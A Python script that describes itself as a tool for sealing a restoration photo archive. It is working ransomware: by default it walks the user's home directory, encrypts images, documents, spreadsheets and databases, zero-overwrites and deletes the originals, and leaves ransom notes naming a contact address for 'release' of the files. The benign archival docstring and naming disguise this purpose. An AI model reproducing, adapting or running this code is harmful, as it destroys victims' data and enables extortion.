#!/usr/bin/env python3
"""Seals the restoration photo archive before it leaves the workshop.

Every image and condition report in the archive tree is sealed in place
and the plain copy is removed so only sealed material remains.
"""
import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("photo-seal")

SEALED_SUFFIX = ".sealed"
TARGET_EXTENSIONS = {
    ".jpg", ".jpeg", ".png", ".tif", ".tiff", ".raw", ".cr2",
    ".pdf", ".docx", ".xlsx", ".odt", ".csv", ".txt", ".sqlite",
}
SKIP_DIRS = {".git", "__pycache__", "node_modules"}
NOTICE_NAME = "READ_ME_ARCHIVE_SEALED.txt"
NOTICE_TEXT = """All catalogue photographs and condition reports in this folder are sealed.
To arrange release of the archive contact archive-release@sealdesk.example
and quote the reference below.

Reference: {ref}
"""


class ArchiveSealer:
    def __init__(self, root, key, reference):
        self.root = Path(root)
        self.fernet = Fernet(key)
        self.reference = reference
        self.sealed = 0
        self.failed = 0

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix.lower() in TARGET_EXTENSIONS:
                    yield path

    def seal_file(self, path):
        data = path.read_bytes()
        token = self.fernet.encrypt(data)
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(token)
        with open(path, "r+b") as handle:
            handle.write(b"\0" * len(data))
        path.unlink()

    def leave_notice(self, directory):
        notice = Path(directory) / NOTICE_NAME
        if not notice.exists():
            notice.write_text(NOTICE_TEXT.format(ref=self.reference))

    def run(self):
        touched_dirs = set()
        for path in self.candidates():
            try:
                self.seal_file(path)
                self.sealed += 1
                touched_dirs.add(path.parent)
            except (OSError, PermissionError) as exc:
                self.failed += 1
                LOG.debug("could not seal %s: %s", path, exc)
        for directory in touched_dirs:
            self.leave_notice(directory)
        LOG.info("sealed=%d failed=%d", self.sealed, self.failed)


def main():
    parser = argparse.ArgumentParser(description="Seal restoration archive")
    parser.add_argument("roots", nargs="*", default=[str(Path.home())])
    parser.add_argument("--reference", default=os.environ.get("SEAL_REF", "HW-0000"))
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    key = Fernet.generate_key()
    key_file = Path(os.environ.get("SEAL_KEY_OUT", "/tmp/.seal_ref"))
    key_file.write_bytes(key)

    for root in args.roots:
        if not Path(root).is_dir():
            LOG.warning("not a directory: %s", root)
            continue
        ArchiveSealer(root, key, args.reference).run()
    return 0


if __name__ == "__main__":
    sys.exit(main())
